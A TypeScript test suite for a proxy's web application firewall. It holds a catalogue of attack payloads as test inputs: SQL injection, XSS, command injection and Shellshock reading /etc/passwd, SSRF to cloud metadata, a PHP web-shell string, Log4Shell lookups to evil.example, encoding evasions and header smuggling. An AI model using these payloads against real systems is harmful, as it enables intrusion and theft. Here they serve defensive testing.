// waf: attacks of each class, in plain sight and hidden; ordinary requests; what is told of a hit; what happens without its engine.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import userAgents from 'top-user-agents';
import { compile } from '../../src/config/compile.ts';
import { bodyAddresses } from '../../src/http/waf/body.ts';
import { type Engine, loadEngine } from '../../src/http/waf/engine.ts';
import { wafIssues } from '../../src/runtime/waf-check.ts';
import { reply } from '../../src/testing/fake-upstream.ts';
import { type Filtered, filtered } from '../../src/testing/filtered.ts';
import { statusOf } from '../../src/testing/http-message.ts';
import { eventually } from '../../src/testing/scenario.ts';

type Sent = readonly [start: string, fields?: Readonly<Record<string, string>>, body?: string];

const JSON_TYPE = { 'Content-Type': 'application/json' };
const FORM_TYPE = { 'Content-Type': 'application/x-www-form-urlencoded' };
const SQLI = "1' or '1'='1";
const XSS = '<script>alert(1)</script>';
const enc = encodeURIComponent;

const multipart = (parts: readonly string[]): Sent => [
  'POST /upload',
  { 'Content-Type': 'multipart/form-data; boundary=xyz' },
  `${parts.map((part) => `--xyz\r\n${part}\r\n`).join('')}--xyz--\r\n`,
];

const ATTACKS: Readonly<Record<string, readonly Sent[]>> = {
  'SQL injection': [
    [`GET /?id=${enc(SQLI)}`],
    ['GET /?id=1%20UNION%20SELECT%20username,password%20FROM%20users--'],
    [`POST /`, FORM_TYPE, `id=${enc(SQLI)}`],
    [`GET /users/${enc(SQLI)}`],
  ],
  'cross-site scripting': [
    [`GET /?q=${enc(XSS)}`],
    ['GET /?q=%3Cimg%20src=x%20onerror=alert(1)%3E'],
    ['GET /', { Referer: `https://a.example/?q=${XSS}` }],
  ],
  'path traversal': [['GET /?file=../../../../etc/passwd'], ['GET /?file=..%5c..%5c..%5cwindows%5cwin.ini']],
  'commands and shellshock': [
    ['GET /?cmd=;cat%20/etc/passwd'],
    ['GET /?cmd=$(cat%20/etc/passwd)'],
    ['GET /', { 'User-Agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' }],
  ],
  'requests forged through the server': [['GET /?url=http://169.254.169.254/latest/meta-data/']],
  PHP: [
    ['GET /?p=php://filter/convert.base64-encode/resource=index.php'],
    [`GET /?p=${enc("<?php system($_GET['c']);?>")}`],
  ],
  'Java and Log4Shell': [
    [`GET /?x=${enc('${jndi:ldap://evil.example/a}')}`],
    [`GET /?x=${enc('${${lower:j}ndi:ldap://evil.example/a}')}`],
    ['GET /', { 'X-Api-Version': '${jndi:ldap://evil.example/a}' }],
  ],
  'prototypes and NoSQL': [
    ['POST /', JSON_TYPE, '{"__proto__":{"admin":true}}'],
    ['GET /?user[$ne]=1'],
    ['POST /', JSON_TYPE, '{"user":{"$ne":null}}'],
  ],
  scanners: [
    ['GET /', { 'User-Agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }],
    ['GET /', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' }],
    ['GET /', { 'User-Agent': 'gobuster/3.1.0' }],
  ],
  'double encoding': [
    [`GET /?id=${enc(enc(SQLI))}`],
    [`GET /?id=${enc(enc(enc(XSS)))}`],
    ['POST /', FORM_TYPE, `q=${enc(enc(XSS))}`],
  ],
  'overlong UTF-8': [
    ['GET /?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd'],
    ['GET /?q=%c0%bcscript%c0%bealert(1)%e0%80%bc/script%c0%be'],
  ],
  '%u and full-width letters': [
    ['GET /?q=%u003cscript%u003ealert(1)%u003c/script%u003e'],
    [`GET /?q=${enc('＜script＞alert(1)＜/script＞')}`],
  ],
  'escapes in JSON': [
    ['POST /', JSON_TYPE, '{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'],
    ['POST /', JSON_TYPE, '{"q":"\\\\u003cscript\\\\u003ealert(1)"}'],
    ['POST /', JSON_TYPE, '{"q":"\\u003cscript\\u003ealert(1)", broken'],
  ],
  'mixed case and comments': [
    ['GET /?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E'],
    ['GET /?id=1/**/UnIoN/**/SeLeCt/**/1,2,3--'],
    ['GET /?id=1%27/*!50000union*/select%201,2,3--'],
  ],
  'null bytes': [['GET /?id=1%20un%00ion%20sel%00ect%201,2,3--'], ['GET /?f=..%00/..%00/..%00/etc/passwd%00.jpg']],
  'parameters of one name': [
    ['GET /?id=1/**/union/*&id=*/select/*&id=*/1,2,3--'],
    ['POST /', JSON_TYPE, `{"q":"${XSS}","q":"fine"}`],
  ],
  'types that say something else': [
    ['POST /', { 'Content-Type': 'application/json' }, XSS],
    ['POST /', { 'Content-Type': 'nothing' }, XSS],
    ['POST /', {}, XSS],
  ],
  'places that the engine would not see': [
    ['POST /', JSON_TYPE, JSON.stringify([...Array(1000).fill(1), XSS])],
    [
      'POST /',
      JSON_TYPE,
      JSON.stringify(Object.fromEntries([...Array(400).keys(), 'x'].map((key) => [`k${key}`, key === 'x' ? XSS : 1]))),
    ],
    ['POST /', JSON_TYPE, `${'['.repeat(3000)}"${XSS}"${']'.repeat(3000)}`],
    ['POST /', JSON_TYPE, JSON.stringify({ q: `${'x '.repeat(5000)}${XSS}` })],
    [`GET /?${'a=1&'.repeat(600)}z=${enc(XSS)}`],
  ],
  'parts of a form': [
    multipart([`Content-Disposition: form-data; name="q"\r\n\r\n${XSS}`]),
    multipart([`Content-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\n\r\nx`]),
    ['POST /', { 'Content-Type': 'multipart/form-data' }, XSS],
    [
      'POST /',
      { 'Content-Type': 'multipart/form-data; boundary=a; boundary=b' },
      `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${XSS}\r\n--b--`,
    ],
  ],
};

const ORDINARY: readonly Sent[] = [
  ['GET /search?q=select+a+book+from+the+list'],
  ["GET /?name=O'Brien"],
  ['GET /?name=O%27Brien&city=L%27Aquila&note=it%27s%20fine%2C%20isn%27t%20it%3F'],
  ['GET /a/b/2024/05/union-station.html?utm_source=news&utm_medium=email'],
  ['GET /?redirect=https%3A%2F%2Fwww.example.com%2Faccount%3Ftab%3D1'],
  ['GET /?price=100%25&range=1-10&sort=-name,date&filter[status]=open'],
  ['GET /?q=%E6%97%A5%E6%9C%AC%E8%AA%9E%20%C3%A9t%C3%A9%20%F0%9F%98%80'],
  ['GET /?q=C%2B%2B%20and%20C%23&math=a%3Db%2Bc'],
  ['GET /', { Cookie: `session=${'a1B2c3D4'.repeat(200)}; theme=dark; prefs=%7B%22a%22%3A1%7D; _ga=GA1.2.3.4` }],
  [
    'GET /',
    {
      Accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
      'Accept-Language': 'de-DE,de;q=0.9,en;q=0.8',
      Referer: 'https://www.google.com/search?q=load+balancer',
    },
  ],
  ['GET /', { Authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' }],
  ['POST /login', FORM_TYPE, 'user=anna%40example.com&password=correct+horse+battery+staple'],
  ['POST /comments', FORM_TYPE, 'text=I%27m+sure+that+Conan+O%27Brien%27s+show+isn%27t+on%3B+is+it%3F+%3A-)'],
  [
    'POST /api',
    JSON_TYPE,
    JSON.stringify({ id: 1, name: "O'Brien", tags: ['a', 'b'], nested: { ok: true, none: null, n: 1.5 } }),
  ],
  [
    'POST /api',
    JSON_TYPE,
    JSON.stringify({ text: 'Hello, it\'s me; pick "a" or "b" -- thanks!', html: 'a < b && c > d' }),
  ],
  [
    'POST /graphql',
    JSON_TYPE,
    JSON.stringify({
      query: 'query($id: ID!) { user(id: $id) { name posts(first: 10) { title } } }',
      variables: { id: '1' },
    }),
  ],
  [
    'POST /api',
    JSON_TYPE,
    JSON.stringify(Array.from({ length: 500 }, (_, i) => ({ id: i, at: '2024-05-01T10:00:00Z' }))),
  ],
  multipart([
    'Content-Disposition: form-data; name="title"\r\n\r\nHolidays \'24',
    'Content-Disposition: form-data; name="f"; filename="photo (1).jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0',
  ]),
  ['PUT /x', { 'Content-Type': 'application/xml' }, '<?xml version="1.0"?><order><item id="1">Tea</item></order>'],
];

for (const [kind, attacks] of Object.entries(ATTACKS)) {
  test(`waf: blocks ${kind}, and only tells of it in mode detect`, async (t) => {
    const block = await filtered(t, [{ waf: 'block' }]);
    const detect = await filtered(t, [{ waf: 'detect' }]);
    for (const attack of attacks) {
      assert.equal((await block.ask(...attack)).status, 403, JSON.stringify(attack).slice(0, 300));
      assert.equal((await detect.ask(...attack)).status, 200, JSON.stringify(attack).slice(0, 300));
    }
    assert.equal(block.upstream.requests.length, 0);
    assert.equal(block.proxy.counters.readEvent(0, 'waf-blocked'), attacks.length);
    assert.equal(detect.proxy.counters.readEvent(0, 'waf-detected'), attacks.length);
    assert.ok(detect.proxy.notices.length >= attacks.length);
    assert.equal(detect.proxy.notices[0].text, 'waf found an attack');
  });
}

test('waf: lets ordinary requests pass', async (t) => {
  const { ask, proxy } = await filtered(t, [{ waf: 'block' }]);
  for (const sent of ORDINARY)
    assert.equal((await ask(...sent)).status, 200, `${JSON.stringify(sent)} ${JSON.stringify(proxy.notices.at(-1))}`);
});

test('waf: lets the browsers of this world pass', async (t) => {
  const { ask } = await filtered(t, [{ waf: 'block' }]);
  assert.ok(userAgents.length >= 50);
  for (const userAgent of userAgents)
    assert.equal((await ask('GET /', { 'User-Agent': userAgent })).status, 200, userAgent);
});

test('waf: a body that is looked at goes on unchanged, in pieces as well; behind the limit nothing is seen', async (t) => {
  const { ask, asked, proxy } = await filtered(t, [{ waf: { mode: 'block', body: { max: '2k' } } }]);
  const body = JSON.stringify({ text: 'x'.repeat(10_000), end: XSS });
  assert.equal((await ask('POST /', JSON_TYPE, body)).status, 200);
  assert.equal(asked().body.toString(), body);
  const client = await proxy.connect();
  client.write('POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n');
  for (const piece of ['<scr', 'ipt>al', 'ert(1)</scr', 'ipt>'])
    await client.writePieces([`${piece.length.toString(16)}\r\n${piece}\r\n`]);
  client.write('0\r\n\r\n');
  assert.equal(statusOf(await client.response()), 403);
});

test('waf: compressed bodies are looked at, as many endpoints open them', async () => {
  const { decompressed } = await import('../../src/http/waf/body.ts');
  const text = Buffer.from(XSS);
  assert.deepEqual(await decompressed(gzipSync(text), 'gzip', 1000), text);
  assert.deepEqual(await decompressed(brotliCompressSync(text), 'br', 1000), text);
  const long = gzipSync(Buffer.from(`${XSS}${Array.from({ length: 5000 }, (_, i) => i).join()}`));
  const begun = await decompressed(long.subarray(0, 2000), 'gzip', 100_000);
  assert.ok(begun!.toString().startsWith(XSS), 'also the beginning alone');
  assert.equal(await decompressed(gzipSync(Buffer.alloc(1_000_000)), 'gzip', 1000), undefined, 'no bomb');
});

test('waf: a compressed attack is blocked on its way', async (t) => {
  const { proxy } = await filtered(t, [{ waf: 'block' }]);
  const client = await proxy.connect();
  const body = gzipSync(Buffer.from(JSON.stringify({ q: XSS })));
  client.write(
    `POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`,
  );
  client.write(body);
  assert.equal(statusOf(await client.response()), 403);
});

test('waf: header smuggling does not get as far as the rules', async (t) => {
  const { proxy, upstream } = await filtered(t, [{ waf: 'block' }]);
  for (const field of [
    'X: a\rY: b',
    'X : a',
    'Transfer-Encoding: chunked\r\nContent-Length: 5',
    'X: a\0b',
    'X: a\n Y: b',
  ]) {
    const client = await proxy.connect();
    client.write(`GET / HTTP/1.1\r\nHost: a\r\n${field}\r\n\r\n`);
    assert.equal(statusOf(await client.response()), 400, JSON.stringify(field));
  }
  assert.equal(upstream.requests.length, 0);
});

test('waf: a response split in a parameter is blocked', async (t) => {
  const { ask } = await filtered(t, [{ waf: 'block' }]);
  assert.equal((await ask('GET /?to=%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0aHTTP/1.1%20200%20OK')).status, 403);
});

test('waf: exemptions by rule, path and parameter, and nothing beyond them', async (t) => {
  const exclude = [
    { rule: 'crs-942-*', path: '/search/*', parameter: 'q' },
    { path: '/editor', parameter: 'html' },
    { rule: 'ua0-600-7xx' },
  ];
  const { ask } = await filtered(t, [{ waf: { mode: 'block', exclude } }]);
  const status = async (...sent: Sent): Promise<number> => (await ask(...sent)).status;
  assert.equal(await status(`GET /search/x?q=${enc(SQLI)}`), 200);
  assert.equal(await status(`GET /search/x?p=${enc(SQLI)}`), 403, 'another parameter');
  assert.equal(await status(`GET /other?q=${enc(SQLI)}`), 403, 'another path');
  assert.equal(await status(`GET /search/x?q=${enc(XSS)}`), 403, 'another rule');
  assert.equal(await status(`GET /search/x?q=${enc(SQLI)}&p=${enc(SQLI)}`), 403, 'one that is exempt hides no other');
  assert.equal(await status('POST /editor', JSON_TYPE, JSON.stringify({ html: XSS })), 200);
  assert.equal(await status('POST /editor', JSON_TYPE, JSON.stringify({ text: XSS })), 403);
  assert.equal(await status('GET /', { 'User-Agent': 'sqlmap/1.7' }), 200);
});

test('waf: exemptions can differ by route', async (t) => {
  const { ask } = await filtered(t, [], undefined, {
    listener: {
      pool: undefined,
      routes: [
        {
          path: '/cms/*',
          filters: [{ waf: { mode: 'block', exclude: [{ rule: 'crs-941-*' }, { rule: 'strc-941-*' }] } }],
          pool: 'b',
        },
        { filters: [{ waf: 'block' }], pool: 'b' },
      ],
    },
  });
  assert.equal((await ask(`GET /cms/?q=${enc(XSS)}`)).status, 200);
  assert.equal((await ask(`GET /?q=${enc(XSS)}`)).status, 403);
});

test('waf: a hit is told in one line, cut, escaped, and without secrets', async (t) => {
  const { ask, proxy } = await filtered(t, [{ waf: 'detect' }]);
  await ask(`GET /?id=${enc(SQLI)}`);
  const { fields } = proxy.notices.at(-1)!;
  assert.match(String(fields.rule), /^crs-942-100$/);
  assert.equal(fields.where, 'server.request.query:id');
  assert.equal(fields.client, '127.0.0.1');
  assert.match(String(fields.requestId), /^x/);
  assert.equal(fields.listener, 'web');
  for (const name of ['password', 'access_token', 'Authorization']) await ask(`GET /?${name}=${enc(`hunter2${SQLI}`)}`);
  await ask('GET /', { Authorization: `Basic hunter2${XSS}` });
  await ask('POST /', JSON_TYPE, JSON.stringify({ user: { password: `hunter2${XSS}` } }));
  await ask(`GET /?q=${enc(`password=hunter2${XSS}`)}`);
  await ask(`POST /`, { 'Content-Type': 'text/plain' }, `{"password": "hunter2", "q": "${XSS}", broken`);
  await ask(`GET /?q=${enc(`\u001b[2J\n${XSS}\u202e`)}`);
  await ask(`GET /?q=${enc(`;cat /etc/passwd${'a'.repeat(500)}`)}`);
  const told = JSON.stringify(proxy.notices);
  assert.ok(proxy.notices.length >= 9);
  assert.doesNotMatch(told, /hunter2/);
  assert.match(told, /<Redacted>/);
  for (const { fields: one } of proxy.notices) {
    for (const text of Object.values(one)) assert.doesNotMatch(String(text), /[\x00-\x1f\x7f-\x9f\u202e]/);
    assert.ok(String(one.matched).length <= 64 * 6);
  }
});

test('waf: a flood of hits does not flood the log', async (t) => {
  const { ask, proxy } = await filtered(t, [{ waf: 'block' }]);
  await Promise.all(Array.from({ length: 150 }, () => ask(`GET /?q=${enc(XSS)}`)));
  assert.equal(proxy.counters.readEvent(0, 'waf-blocked'), 150);
  const until = performance.now() + 1100;
  await eventually(() => performance.now() > until, 'a second');
  await ask(`GET /?q=${enc(XSS)}`);
  assert.ok(proxy.notices.some(({ text, fields }) => text.includes('left out') && Number(fields.lines) > 0));
});

test('waf: off costs and does nothing; engines outlive a reload; a status of ones own', async (t) => {
  const { ask, proxy } = await filtered(t, [{ waf: 'off' }]);
  assert.equal((await ask(`GET /?q=${enc(XSS)}`)).status, 200);
  const filters = [{ waf: { mode: 'block', status: 406 } }];
  await proxy.reload({ listener: { filters } });
  assert.equal((await ask(`GET /?q=${enc(XSS)}`)).status, 406);
  await proxy.reload({ listener: { filters }, pool: { retries: 0 } });
  assert.equal((await ask(`GET /?q=${enc(XSS)}`)).status, 406);
});

test('waf: what takes too long passes, or does not, and is counted', async (t) => {
  // A pattern over much text: a millisecond is not enough.
  const body = JSON.stringify(Array.from({ length: 1500 }, (_, i) => `select ${i} from or and <a ${i}`));
  const send = ({ ask }: Filtered) => ask('POST /', JSON_TYPE, body);
  const pass = await filtered(t, [{ waf: { mode: 'block', budget: '1ms' } }]);
  assert.equal((await send(pass)).status, 200);
  assert.equal(pass.proxy.counters.readEvent(0, 'waf-timeout'), 1);
  assert.equal((await pass.ask(`POST /?id=${enc(SQLI)}`, JSON_TYPE, body)).status, 403, 'nothing hides behind a body');
  const block = await filtered(t, [{ waf: { mode: 'block', budget: '1ms', onTimeout: 'block' } }]);
  assert.equal((await send(block)).status, 403);
});

test('waf: a client that goes while its body is awaited leaves nothing behind', async (t) => {
  const { proxy } = await filtered(t, [{ waf: 'block' }], () => reply('x'));
  const client = await proxy.connect();
  client.write('POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"a":');
  await eventually(() => proxy.plane.open().requests === 1, 'it waits');
  client.socket.resetAndDestroy();
  await eventually(() => proxy.plane.open().requests === 0, 'it is gone');
});

const COFFEE = [
  {
    operator: 'match_regex',
    parameters: { inputs: [{ address: 'server.request.query' }, { address: 'server.request.body' }], regex: 'coffee' },
  },
];

test('waf: rules from a file, as it is at a reload', async (t) => {
  const folder = mkdtempSync(join(tmpdir(), 'evenkeel-waf-'));
  t.after(() => rmSync(folder, { recursive: true }));
  const file = join(folder, 'rules.json');
  const rule = {
    id: 'own-1',
    name: 'No teapots',
    tags: { type: 'own', category: 'attack_attempt' },
    conditions: [
      { operator: 'match_regex', parameters: { inputs: [{ address: 'server.request.query' }], regex: 'teapot' } },
    ],
    transformers: [],
  };
  writeFileSync(file, JSON.stringify({ version: '2.2', rules: [rule] }));
  const { ask, proxy } = await filtered(t, [{ waf: { mode: 'block', rules: file } }]);
  assert.equal((await ask('GET /?q=teapot')).status, 403);
  writeFileSync(file, JSON.stringify({ version: '2.2', rules: [{ ...rule, id: 'own-2', conditions: COFFEE }] }));
  await proxy.reload({ listener: { filters: [{ waf: { mode: 'block', rules: file, body: 'off' } }] } });
  assert.equal((await ask('GET /?q=coffee')).status, 403);
  assert.equal((await ask('GET /?q=teapot')).status, 200);
  assert.equal((await ask('POST /', JSON_TYPE, '{"q":"coffee"}')).status, 200);
  assert.equal((await ask(`GET /?q=${enc(XSS)}`)).status, 200);
});

const configOf = (settings: unknown) => {
  const compiled = compile({
    listeners: { web: { bind: '127.0.0.1:1', pool: 'b', filters: [{ waf: settings }] } },
    pools: { b: { endpoints: ['127.0.0.1:2'] } },
  });
  assert.ok(compiled.ok, JSON.stringify(compiled));
  return compiled.value;
};

test('waf: without its engine a configuration is refused, and told what to do', () => {
  const missing = () =>
    loadEngine((): Engine => {
      throw new Error('No native build was found for platform=linux arch=riscv64');
    });
  const [issue] = wafIssues(configOf('block'), missing);
  assert.deepEqual(issue.path, ['listeners', 'web', 'filters', 0, 'waf', 'mode']);
  assert.match(
    issue.message,
    new RegExp(`${process.platform}-${process.arch} with Node ${process.version}: No native build`),
  );
  assert.match(issue.hint!, /mode: off/);
  assert.deepEqual(wafIssues(configOf('off'), missing), []);
  assert.deepEqual(wafIssues(configOf('block')), []);
});

test('waf: rules and exemptions that mean nothing are issues', () => {
  const messageOf = (settings: object) =>
    wafIssues(configOf({ mode: 'block', ...settings })).map(({ message }) => message);
  assert.match(messageOf({ rules: '/nowhere.json' })[0], /ENOENT/);
  assert.match(messageOf({ rules: new URL('../../README.md', import.meta.url).pathname })[0], /is no JSON/);
  assert.match(messageOf({ rules: new URL('../../package.json', import.meta.url).pathname })[0], /holds no "rules"/);
  assert.match(messageOf({ exclude: [{ rule: 'crs-999-*' }] })[0], /names no rule/);
});

test('waf: no body of any kind makes it throw', () => {
  const bodies = [
    '',
    '{',
    '[]',
    '"',
    '\u0000',
    '%',
    '--x',
    '--x--',
    '\r\n\r\n',
    '='.repeat(100),
    '&'.repeat(100),
    '\ud800',
    '%u',
    '%c0',
    '\\u{ffffff}',
  ];
  for (const body of bodies)
    for (const type of ['json', 'form', 'multipart', 'text'] as const)
      for (const contentType of ['', 'multipart/form-data; boundary=x', 'text/plain; charset=utf-16'])
        assert.doesNotThrow(() => bodyAddresses(Buffer.from(body), type, contentType));
});
